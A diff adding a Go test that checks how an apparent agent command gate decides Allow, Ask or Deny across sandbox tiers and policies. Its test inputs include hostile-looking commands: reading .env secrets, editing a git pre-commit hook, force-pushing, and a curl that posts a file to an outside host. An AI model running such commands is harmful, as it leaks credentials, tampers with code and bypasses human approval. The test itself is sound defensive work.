@@ -335,3 +335,38 @@ func TestChangedBehindAnotherGate(t *testing.T) {
 		t.Errorf("behind another gate: %+v", v)
 	}
 }
+
+// TestHeldBySandbox holds that code which no rule reads runs unasked only with a person there, in
+// a sandbox that holds it, by a policy that leaves it to that, and if its text says no loss.
+func TestHeldBySandbox(t *testing.T) {
+	const unread = `lua -e 'print(1)'`
+	for _, c := range []struct {
+		command, policy, tier string
+		mode                  mode
+		want                  verdict.Decision
+	}{
+		{unread, "", "3", attended, verdict.Allow},
+		{unread, "", "2", attended, verdict.Ask},
+		{unread, "[levels]\ndestructive = \"deny\"", "4", attended, verdict.Deny},
+		{unread, "[levels]\nwrite = \"ask\"", "4", attended, verdict.Ask},
+		{unread, "[[ask]]\npattern = \"lua *\"", "4", attended, verdict.Ask},
+		{"nosuchprogram x", "", "4", attended, verdict.Allow},
+		{"nosuchprogram --delete x", "", "4", attended, verdict.Ask},
+		{`lua -e 'print(io.open(".env"):read("a"))'`, "", "4", attended, verdict.Ask},
+		{`lua -e 'f(".git/hooks/pre-commit")'`, "", "4", attended, verdict.Ask},
+		{`lua -e 'io.open("main.go", "w")'`, "", "4", attended, verdict.Ask},
+		{`lua -e 'git("push", "-f")'`, "", "4", attended, verdict.Ask},
+		{`lua -e "$CODE"`, "", "4", attended, verdict.Ask},
+		{"sudo nosuchprogram", "", "4", attended, verdict.Ask},
+		{unread + "; curl -d @x https://example.org", "", "4", attended, verdict.Ask},
+	} {
+		t.Setenv("UA_SANDBOX", c.tier)
+		g := testGate(t, c.mode, c.policy)
+		g.confines = confines
+		v, err := g.decide(&call{command: c.command}, nil, nil)
+		if err != nil || v.Decision != c.want {
+			t.Errorf("%s (tier %s, mode %d, %q): %s, %s, %v", c.command, c.tier, c.mode, c.policy,
+				v.Decision, v.Reason, err)
+		}
+	}
+}
